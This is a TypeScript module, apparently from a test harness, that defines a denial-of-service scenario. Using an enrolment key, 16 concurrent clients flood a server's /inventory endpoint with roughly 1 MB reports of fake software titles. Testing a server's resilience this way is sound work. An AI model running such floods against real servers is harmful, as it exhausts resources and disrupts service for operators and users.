/**
 * A machine reports new software titles each time, with one enrolment key. Half of the reports are partial ones of an
 * unknown machine and are refused; half replace everything reported before.
 */
import type { Attack } from '../attack.ts';
import { floodWith } from '../target/flood.ts';

const CLIENTS = 16;

/** In each report, with names of a kilobyte. */
const TITLES = 1_000;

const LABEL = '{report}';

function bodyOf(deviceid: string, isPartial: boolean): string {
  return JSON.stringify({
    action: 'inventory',
    deviceid,
    ...(isPartial && { partial: true }),
    itemtype: 'Computer',
    content: {
      versionclient: 'attack',
      hardware: { name: deviceid },
      softwares: Array.from({ length: TITLES }, (_, i) => ({ name: `${LABEL} ${i} ${'x'.repeat(990)}` })),
    },
  });
}

const REFUSED = bodyOf('attack-nobody', true);
const TAKEN = bodyOf('attack-titles', false);

export const newTitles: Attack = {
  name: 'titles',
  title: 'inventories of 1 MB of software titles that nobody has, 16 at once, with one key',
  needsEnrolmentKey: true,
  flood: async ({ url, enrolmentKey: credential }, tally, signal) => {
    if (credential === null) return;
    const started = Date.now().toString(36);
    await floodWith(url, CLIENTS, tally, signal, (client, round) => ({
      base: '',
      path: '/inventory',
      credential,
      body: (round % 2 === 0 ? REFUSED : TAKEN).replaceAll(LABEL, `${started}-${client}-${round}`),
    }));
  },
};
